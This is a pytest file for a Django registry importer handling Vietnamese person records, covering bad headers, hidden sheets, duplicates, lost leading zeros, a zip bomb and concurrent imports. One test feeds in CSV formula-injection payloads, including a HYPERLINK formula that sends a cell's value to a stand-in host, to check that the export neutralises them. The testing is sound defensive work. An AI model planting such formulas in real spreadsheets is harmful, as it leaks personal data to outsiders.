"""Registry imports facing the files officers really send: misspelt columns, hidden sheets,
the template's example left in, rows twice, a file imported again, formulas, lost zeros, a
zip bomb; and two officers importing the same file at once (PostgreSQL)."""

from __future__ import annotations

import io
import threading

import pytest
from django.db import connection
from openpyxl import Workbook, load_workbook

from dondoc.core.exceptions import InvalidInput
from dondoc.registry.models import ImportedRow, Person
from dondoc.registry.transfer import registry_export, registry_import, template_xlsx
from tests.core.test_archives import archive
from tests.registry.factories import grant_personal_export

pytestmark = pytest.mark.django_db

PERSONS = "Họ và tên,Số định danh,Giới tính\nNguyễn Văn An,008090001234,Nam\n"


def load(world, data: bytes | str, name: str = "ca-nhan.csv", **extra):
    raw = data.encode("utf-8") if isinstance(data, str) else data
    return registry_import(
        actor=world.focal, agency=world.police_sd, kind="persons", data=raw, filename=name,
        **extra,
    )  # fmt: skip


def xlsx(sheets: list[tuple[str, list[list[object]], str]]) -> bytes:
    """A workbook of (title, rows, state) sheets, in order."""
    book = Workbook()
    book.remove(book.active)
    for title, rows, state in sheets:
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append(row)
        sheet.sheet_state = state
    book.active = next(i for i, (_, _, state) in enumerate(sheets) if state == "visible")
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_a_misspelt_column_refuses_the_file_naming_it(world) -> None:
    misspelt = "Họ và tên,Số định danh/CCCD,Giới tính\nNguyễn Văn An,008090001234,Nam\n"
    with pytest.raises(InvalidInput) as refused:
        load(world, misspelt)
    message = refused.value.message
    assert message.startswith("ca-nhan.csv: Dòng tiêu đề (dòng 1)")
    assert (
        "“Số định danh/CCCD”" in message
        and "Các cột của mẫu: “Họ và tên”, “Số định danh”" in message
    )
    assert not Person.objects.exists()
    with pytest.raises(InvalidInput, match="cột “Giới tính” có hai lần"):
        load(world, "Họ và tên,Giới tính,gioi tinh\nAn,Nam,Nam\n")
    # A row-number column is no column of data: read as nothing.
    assert load(world, "STT,Họ và tên\n1,Nguyễn Văn An\n").saved == 1


def test_the_visible_sheet_is_read_not_a_hidden_one_and_the_result_says_which(world) -> None:
    header = ["Họ và tên", "Năm sinh"]
    stale = [header, *([f"Người cũ {i}", 1980] for i in range(3))]
    current = [header, *([f"Người mới {i}", 1990] for i in range(5))]
    data = xlsx([("Cũ", stale, "hidden"), ("Danh sách", current, "visible")])
    result = load(world, data, name="ca-nhan.xlsx")
    assert (
        result.saved == 5
        and result.sheet == "Đã đọc trang tính “Danh sách” (bỏ qua trang ẩn “Cũ”)."
    )
    assert not Person.objects.filter(birth_year=1980).exists()
    named = load(world, data, name="ca-nhan.xlsx", sheet="cu")  # any case, with or without accents
    assert named.saved == 3 and named.sheet == "Đã đọc trang tính “Cũ”."
    with pytest.raises(
        InvalidInput, match="không có trang tính “Khác” \\(các trang: “Cũ”, “Danh sách”\\)"
    ):
        load(world, data, name="ca-nhan.xlsx", sheet="Khác")


def test_the_template_uploaded_as_it_is_saves_nothing(world) -> None:
    template = template_xlsx("persons")
    result = load(world, template, name="mau.xlsx")
    assert (result.rows, result.saved) == (1, 0)
    assert [w.describe() for w in result.warnings] == ["Dòng 4: dòng ví dụ của mẫu nhập, bỏ qua"]
    book = load_workbook(io.BytesIO(template))
    book.active.append(["Lò Thị Hiền", "002190004321", "", "2011", "Nữ"])
    buffer = io.BytesIO()
    book.save(buffer)
    filled = load(world, buffer.getvalue(), name="mau.xlsx")
    assert filled.saved == 1 and Person.objects.get().full_name == "Lò Thị Hiền"


def test_rows_twice_and_a_file_imported_again_are_skipped_with_a_warning(world) -> None:
    twice = PERSONS + "Trần Thị Bích,,Nữ\nNguyễn Văn An,008 090 001 234,nam\n"
    first = load(world, twice)
    assert (first.rows, first.saved) == (3, 2)
    assert [w.describe() for w in first.warnings] == ["Dòng 4: trùng dòng 2 của tệp, bỏ qua"]
    again = load(world, twice)
    assert again.saved == 0 and Person.objects.count() == 2
    assert [w.row for w in again.warnings] == [2, 3, 4]
    assert "đã nhập ngày 30/11/2026, không lưu lại" in again.warnings[0].describe()
    # Only keyed digests are kept, never the values they stand for.
    digests = list(ImportedRow.objects.values_list("digest", flat=True))
    assert len(digests) == 2 and all(len(d) == 32 and int(d, 16) >= 0 for d in digests)


def test_formulas_are_neutralised_in_csv_and_identity_numbers_keep_their_zeros(world) -> None:
    hostile = '=HYPERLINK("http://x.example/?"&A2,"Bấm")'
    data = (
        "Họ và tên,Số định danh,Địa chỉ,Số điện thoại\n"
        f'"{hostile.replace(chr(34), chr(34) * 2)}",008090001234,@SUM(1+1),+84912345678\n'
        "Trần Văn Bình,001200000001,-1+1,\t0912345678\n"
    )
    assert load(world, data).saved == 2
    grant_personal_export(world.focal, world.police_sd)
    exported = registry_export(actor=world.focal, kind="persons", fmt="csv", agency=world.police_sd)
    text = exported.decode("utf-8-sig")
    import csv

    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + hostile in cells and "'@SUM(1+1)" in cells and "'+84912345678" in cells
    assert "'-1+1" in cells and "008090001234" in cells and "001200000001" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    # Read back, the apostrophes come off: the same people, recognised as imported already.
    assert load(world, exported, name="again.csv").saved == 0
    ImportedRow.objects.all().delete()
    load(world, exported, name="again.csv")
    # Imported again as new rows, the people are found by identity number, not duplicated.
    names = [p.full_name for p in Person.objects.all()]
    assert names.count(hostile) == 1 and "'" + hostile not in names
    assert set(Person.objects.values_list("identity_number", flat=True)) == {
        "008090001234",
        "001200000001",
    }


def test_identity_columns_of_the_template_are_text_and_a_lost_zero_is_explained(world) -> None:
    sheet = load_workbook(io.BytesIO(template_xlsx("crime_reports"))).active
    labels = [cell.value for cell in sheet[3]]
    column = labels.index("Số định danh bị hại") + 1
    assert sheet.cell(row=5, column=column).number_format == "@"
    data = xlsx(
        [("Cá nhân", [["Họ và tên", "Số định danh"], ["Nguyễn Văn An", 8090001234]], "visible")]
    )
    result = load(world, data, name="ca-nhan.xlsx")
    assert result.saved == 0
    assert "số 0 ở đầu đã bị mất" in result.errors[0].describe()


def test_a_zip_bomb_is_refused_before_it_is_read(world) -> None:
    sheet = '<row><c t="inlineStr"><is><t>Nguyễn Văn An</t></is></c></row>'.encode() * 400_000
    data = archive({"[Content_Types].xml": b"<Types/>", "xl/worksheets/sheet1.xml": sheet})
    with pytest.raises(
        InvalidInput, match=r"ca-nhan\.xlsx: Tệp Excel: phần “xl/worksheets/sheet1\.xml”"
    ):
        load(world, data, name="ca-nhan.xlsx")


@pytest.mark.django_db(transaction=True)
def test_two_officers_importing_the_same_file_at_once_save_it_once(world) -> None:
    if connection.vendor != "postgresql":
        pytest.skip("needs PostgreSQL: SQLite serialises every writer, there is no race to test")
    rows = "".join(f"Người {i},,Nam\n" for i in range(3000))
    data = ("Họ và tên,Số định danh,Giới tính\n" + rows).encode()
    barrier = threading.Barrier(2)
    outcomes: list[object] = []

    def officer() -> None:
        try:
            barrier.wait()
            outcomes.append(load(world, data).saved)
        except InvalidInput as refused:
            outcomes.append(refused.message)
        finally:
            connection.close()

    threads = [threading.Thread(target=officer) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert Person.objects.count() == 3000 and ImportedRow.objects.count() == 3000
    saved = [o for o in outcomes if o == 3000]
    others = [o for o in outcomes if o != 3000]
    assert len(saved) == 1 and len(others) == 1
    assert others[0] == 0 or "cùng lúc" in str(others[0])
